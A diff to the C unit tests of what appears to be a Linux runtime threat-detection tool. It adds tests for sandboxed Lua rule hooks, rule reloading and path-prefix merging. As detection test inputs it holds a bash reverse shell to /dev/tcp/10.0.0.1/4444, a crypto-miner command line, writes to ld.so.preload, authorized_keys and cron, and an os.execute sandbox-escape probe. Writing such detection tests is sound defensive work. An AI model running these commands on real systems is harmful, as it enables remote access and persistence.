@@ -7,7 +7,11 @@
  */
 #include <linux/types.h>
 #include <stdlib.h>
+#include <time.h>
+#include <unistd.h>
 
+#include "defend/lua.h"
+#include "defend/reload.h"
 #include "defend/rules.h"
 #include "events.h"
 #include "harness.h"
@@ -88,7 +92,7 @@ static void test_rules__builtin_exec(void)
 	exec_view(&v, "bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false);
 	CHECK_STR(matches(rs, &v), "reverse-shell-cmdline");
 	exec_view(&v, "xmrig", "xmrig -o stratum+tcp://pool.example:3333 -u x", true);
-	CHECK_STR(matches(rs, &v), "crypto-miner-args");
+	CHECK_STR(matches(rs, &v), "crypto-miner-args,crypto-miner-binary");
 	exec_view(&v, "dropper", "/tmp/dropper", true);
 	v.f[MOAT_F_PROC_DRIFT] = "true";
 	CHECK_STR(matches(rs, &v), "container-drift");
@@ -127,9 +131,9 @@ static void test_rules__builtin_files_net(void)
 	v.f[MOAT_F_FD_NAME2] = "/etc/cron.daily/evil";
 	CHECK_STR(matches(rs, &v), "write-below-etc-cron");
 	file_view(&v, "open", "tee", "/etc/ld.so.preload", true, false);
-	CHECK_STR(matches(rs, &v), "write-sensitive-account-files");
+	CHECK_STR(matches(rs, &v), "write-ld-so-preload");
 	file_view(&v, "open", "sh", "/home/alice/.ssh/authorized_keys", true, false);
-	CHECK_STR(matches(rs, &v), "write-sensitive-account-files");
+	CHECK_STR(matches(rs, &v), "write-authorized-keys");
 	file_view(&v, "open", "useradd", "/etc/passwd", true, false);
 	CHECK_STR(matches(rs, &v), "");
 	file_view(&v, "connect", "curl", "/var/run/docker.sock", false, true);
@@ -188,6 +192,206 @@ static void test_rules__operators(void)
 	CHECK_INT(moat_rules_get(rs, 4)->action, MOAT_ACTION_KILL);
 	CHECK_STR(moat_rules_get(rs, 4)->mitre[0], "T1");
 	moat_rules_close(rs);
+}
+
+/* One rule "l" with condition evt.kind=exec and this Lua chunk. */
+static struct moat_ruleset *lua_rule(const char *chunk, struct moat_error *err, int *ret)
+{
+	struct moat_ruleset *rs = NULL;
+	char text[2048];
+
+	snprintf(text, sizeof(text), "rules:\n  - id: l\n    severity: info\n"
+		 "    when: {field: evt.kind, equals: exec}\n    lua: |\n      %s\n", chunk);
+	*ret = moat_rules_open(&rs, err);
+	if (*ret == 0)
+		*ret = load_str(rs, text, err);
+	return rs;
+}
+
+static void test_rules__lua(void)
+{
+	struct moat_error err = { 0 };
+	struct moat_ruleset *rs;
+	struct moat_rule_view v;
+	int r;
+
+	/* matches: the hook sees the event's fields after the condition matched */
+	rs = lua_rule("function match(evt) return evt['proc.name'] == 'bash' and "
+		      "evt['container.id'] ~= nil and evt['no.such'] == nil end", &err, &r);
+	CHECK_INT(r, 0);
+	exec_view(&v, "bash", "bash", true);
+	CHECK_STR(matches(rs, &v), "l");
+	exec_view(&v, "bash", "bash", false);
+	CHECK_STR(matches(rs, &v), "");
+	exec_view(&v, "sh", "sh", true);
+	CHECK_STR(matches(rs, &v), "");
+	v.f[MOAT_F_EVT_KIND] = "open";          /* condition fails: the hook does not run */
+	v.f[MOAT_F_PROC_NAME] = "bash";
+	CHECK_STR(matches(rs, &v), "");
+	CHECK_INT(moat_rules_lua_errors(rs), 0);
+	moat_rules_close(rs);
+
+	/* a runtime error: no match, counted */
+	rs = lua_rule("function match(evt) return evt['proc.name'].x.y end", &err, &r);
+	CHECK_INT(r, 0);
+	exec_view(&v, "bash", "bash", true);
+	CHECK_STR(matches(rs, &v), "");
+	CHECK_INT(moat_rules_lua_errors(rs), 1);
+	moat_rules_close(rs);
+
+	/* an endless loop is stopped by the instruction budget, every call */
+	rs = lua_rule("function match(evt) while true do end end", &err, &r);
+	CHECK_INT(r, 0);
+	{
+		struct timespec t0;
+		struct timespec t1;
+
+		clock_gettime(CLOCK_MONOTONIC, &t0);
+		CHECK_STR(matches(rs, &v), "");
+		clock_gettime(CLOCK_MONOTONIC, &t1);
+		printf("# a runaway match() was stopped after %.3f ms\n",
+		       (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6);
+	}
+	CHECK_STR(matches(rs, &v), "");
+	CHECK_INT(moat_rules_lua_errors(rs), 2);
+	if (rs && moat_rules_count(rs))
+		CHECK(strstr(moat_lua_last_error(moat_rules_get(rs, 0)->lua), "instruction limit"));
+	moat_rules_close(rs);
+
+	/* no way out: os, io, require, load ... are gone; os.execute fails */
+	rs = lua_rule("function match(evt) return os == nil and io == nil and package == nil and "
+		      "require == nil and load == nil and loadfile == nil and dofile == nil and "
+		      "print == nil and string.rep('a', 3) == 'aaa' end", &err, &r);
+	CHECK_INT(r, 0);
+	CHECK_STR(matches(rs, &v), "l");
+	moat_rules_close(rs);
+	rs = lua_rule("function match(evt) os.execute('touch /tmp/moat-lua-pwned') return true end",
+		      &err, &r);
+	CHECK_INT(r, 0);
+	CHECK_STR(matches(rs, &v), "");
+	CHECK_INT(moat_rules_lua_errors(rs), 1);
+	CHECK(access("/tmp/moat-lua-pwned", F_OK) != 0);
+	moat_rules_close(rs);
+
+	/* memory cap, read-only evt, non-boolean results */
+	rs = lua_rule("function match(evt) local s = string.rep('x', 8 << 20) return #s > 0 end",
+		      &err, &r);
+	CHECK_STR(matches(rs, &v), "");
+	if (rs && moat_rules_count(rs))
+		CHECK(strstr(moat_lua_last_error(moat_rules_get(rs, 0)->lua), "memory"));
+	moat_rules_close(rs);
+	rs = lua_rule("function match(evt) rawset(evt, 'proc.name', 'x') evt.x = 1 return true end",
+		      &err, &r);
+	CHECK_STR(matches(rs, &v), "");
+	moat_rules_close(rs);
+	rs = lua_rule("function match(evt) return 1 end", &err, &r);
+	CHECK_STR(matches(rs, &v), "");
+	CHECK_INT(moat_rules_lua_errors(rs), 1);
+	moat_rules_close(rs);
+}
+
+static void test_rules__lua_load_errors(void)
+{
+	static const struct {
+		const char *chunk;
+		int code;
+		const char *msg;
+	} rows[] = {
+		{ "function match(evt) return end end", MOAT_E_FORMAT, "test.yaml: rule l: lua:" },
+		{ "x = 1", MOAT_E_FORMAT, "no function match" },
+		{ "error('boom') function match(evt) return true end", MOAT_E_FORMAT, "boom" },
+		{ "while true do end", MOAT_E_FORMAT, "instruction limit" },
+		{ "big = string.rep('y', 5 << 20) function match(evt) return true end",
+		  MOAT_E_LIMIT, "not enough memory" },
+		{ "os.execute('true') function match(evt) return true end", MOAT_E_FORMAT, "os" },
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		struct moat_error err = { 0 };
+		struct moat_ruleset *rs;
+		int r;
+
+		rs = lua_rule(rows[i].chunk, &err, &r);
+		if (r != rows[i].code || !strstr(err.msg, rows[i].msg))
+			printf("# row %zu: %d \"%s\"\n", i, r, err.msg);
+		CHECK_INT(r, rows[i].code);
+		CHECK(strstr(err.msg, rows[i].msg) != NULL);
+		CHECK_INT(moat_rules_count(rs), 0);
+		moat_rules_close(rs);
+	}
+	{
+		/* a good hook, then a bad rule in the same file: nothing added, nothing leaked */
+		struct moat_ruleset *rs = NULL;
+		struct moat_error err = { 0 };
+
+		CHECK_INT(moat_rules_open(&rs, &err), 0);
+		CHECK_INT(load_str(rs, "rules:\n"
+			" - {id: a, severity: info, when: {field: proc.pid, exists: true},"
+			"    lua: 'function match(e) return true end'}\n"
+			" - {id: b, severity: nope, when: {field: proc.pid, exists: true}}\n", &err),
+			MOAT_E_FORMAT);
+		CHECK_INT(moat_rules_count(rs), 0);
+		CHECK_INT(load_str(rs, "rules: [{id: c, severity: info, when: {field: proc.pid, "
+			"exists: true}, lua: 5}]\n", &err), MOAT_E_FORMAT);
+		CHECK(strstr(err.msg, "lua is a string") != NULL);
+		moat_rules_close(rs);
+	}
+}
+
+static void put_file(const char *dir, const char *name, const char *text)
+{
+	char path[512];
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/%s", dir, name);
+	f = fopen(path, "w");
+	if (!f)
+		return;
+	fputs(text, f);
+	fclose(f);
+}
+
+/* The watch without a defender: changes are seen, bad sets are refused, other files ignored. */
+static void test_rules__reload(void)
+{
+	char dir[] = "/tmp/moat-reload-XXXXXX";
+	struct moat_rules_watch *w = NULL;
+	struct moat_ruleset *rs = NULL;
+	struct moat_error err = { 0 };
+	char path[512];
+
+	if (!mkdtemp(dir)) {
+		CHECK(false);
+		return;
+	}
+	put_file(dir, "a.yaml", "rules: [{id: a, severity: info, when: {field: proc.pid, exists: true}}]\n");
+	CHECK_INT(moat_rules_watch_open(dir, &w, &err), 0);
+	if (!w)
+		return;
+	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 0);
+	put_file(dir, "notes.txt", "not a rule file\n");
+	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 0);
+	put_file(dir, "b.yml", "rules: [{id: b, severity: info, when: {field: proc.pid, exists: true}}]\n");
+	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 1);
+	CHECK_INT(rs ? moat_rules_count(rs) : 0, 2);
+	moat_rules_close(rs);
+	rs = NULL;
+	put_file(dir, "b.yml", "rules: [{id: b, severity: info,\n  when: {field: no.such, equals: 1}}]\n");
+	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), MOAT_E_FORMAT);
+	CHECK(rs == NULL);
+	CHECK(strstr(err.msg, "/b.yml: rule b: unknown field") != NULL);
+	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 0);
+	snprintf(path, sizeof(path), "%s/b.yml", dir);
+	unlink(path);
+	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 1);
+	CHECK_INT(rs ? moat_rules_count(rs) : 0, 1);
+	moat_rules_close(rs);
+	moat_rules_watch_close(w);
+	snprintf(path, sizeof(path), "%s/a.yaml", dir);
+	unlink(path);
+	snprintf(path, sizeof(path), "%s/notes.txt", dir);
+	unlink(path);
+	rmdir(dir);
 }
 
 static void test_rules__deny_exes(void)
@@ -274,30 +478,58 @@ static void test_rules__errors(void)
 	}
 }
 
+/* The kernel's test: a table prefix heads the path and its mode allows the access. */
+static bool reported(const struct moat_ev_prefix *p, size_t n, const char *path, __u32 mode)
+{
+	for (size_t i = 0; i < n; i++)
+		if ((p[i].mode & mode) && !strncmp(path, p[i].p, p[i].len))
+			return true;
+	return false;
+}
+
 static void test_rules__prefixes(void)
 {
 	struct moat_ruleset *rs = builtin();
 	struct moat_ev_prefix p[MOAT_EV_PREFIX_MAX];
 	size_t n;
-	int cron = -1;
-	int shadow = -1;
 
 	if (!rs)
 		return;
 	n = moat_rules_prefixes(rs, p, MOAT_EV_PREFIX_MAX);
-	for (size_t i = 0; i < n; i++) {
+	for (size_t i = 0; i < n; i++)
 		CHECK_INT(strlen(p[i].p), p[i].len);
-		if (!strcmp(p[i].p, "/etc/cron"))
-			cron = (int)i;
-		if (!strcmp(p[i].p, "/etc/shadow"))
-			shadow = (int)i;
-	}
-	CHECK(cron >= 0 && shadow >= 0);
 	/* cron only matters when written, shadow on any open */
-	if (cron >= 0)
-		CHECK_INT(p[cron].mode, MOAT_PREFIX_WRITE);
-	if (shadow >= 0)
-		CHECK_INT(p[shadow].mode, MOAT_PREFIX_READ | MOAT_PREFIX_WRITE);
+	CHECK(reported(p, n, "/etc/cron.d/x", MOAT_PREFIX_WRITE));
+	CHECK(!reported(p, n, "/etc/cron.d/x", MOAT_PREFIX_READ));
+	CHECK(reported(p, n, "/etc/shadow", MOAT_PREFIX_READ));
+	CHECK(reported(p, n, "/etc/shadow", MOAT_PREFIX_WRITE));
+	moat_rules_close(rs);
+}
+
+static void test_rules__prefix_merge(void)
+{
+	struct moat_ruleset *rs = NULL;
+	struct moat_error err = { 0 };
+	struct moat_ev_prefix p[4];
+	size_t n;
+
+	CHECK_INT(moat_rules_open(&rs, &err), 0);
+	CHECK_INT(load_str(rs, "rules:\n"
+		" - {id: a, severity: info, when: {and: [{field: fd.write, equals: true},"
+		"    {field: fd.name, in: [/etc/aa, /etc/ab, /etc/ac/x, /var/spool/a, /var/spool/b]}]}}\n"
+		" - {id: b, severity: info, when: {field: fd.name, in: [/root/.aws/x, /srv/key]}}\n"
+		" - {id: c, severity: info, when: {and: [{field: evt.kind, equals: mount},"
+		"    {field: fd.name2, startswith: /dev/}]}}\n", &err), 0);
+	n = moat_rules_prefixes(rs, p, 4);
+	CHECK_INT(n, 4);
+	/* write-only heads merge first; the mount rule asks for no prefix */
+	CHECK(reported(p, n, "/etc/ab", MOAT_PREFIX_WRITE));
+	CHECK(reported(p, n, "/var/spool/b", MOAT_PREFIX_WRITE));
+	CHECK(!reported(p, n, "/etc/ab", MOAT_PREFIX_READ));
+	CHECK(reported(p, n, "/root/.aws/x", MOAT_PREFIX_READ));
+	CHECK(reported(p, n, "/srv/key", MOAT_PREFIX_READ));
+	CHECK(!reported(p, n, "/dev/sda", MOAT_PREFIX_READ));
+	CHECK(!reported(p, n, "/root/.bashrc", MOAT_PREFIX_READ));
 	moat_rules_close(rs);
 }
 
@@ -390,9 +622,13 @@ int main(void)
 	MOAT_RUN(test_rules__builtin_exec);
 	MOAT_RUN(test_rules__builtin_files_net);
 	MOAT_RUN(test_rules__operators);
+	MOAT_RUN(test_rules__lua);
+	MOAT_RUN(test_rules__lua_load_errors);
+	MOAT_RUN(test_rules__reload);
 	MOAT_RUN(test_rules__deny_exes);
 	MOAT_RUN(test_rules__errors);
 	MOAT_RUN(test_rules__prefixes);
+	MOAT_RUN(test_rules__prefix_merge);
 	MOAT_RUN(test_rules__cgroup_ids);
 	MOAT_RUN(test_rules__times);
 	MOAT_RUN(test_rules__record_checks);
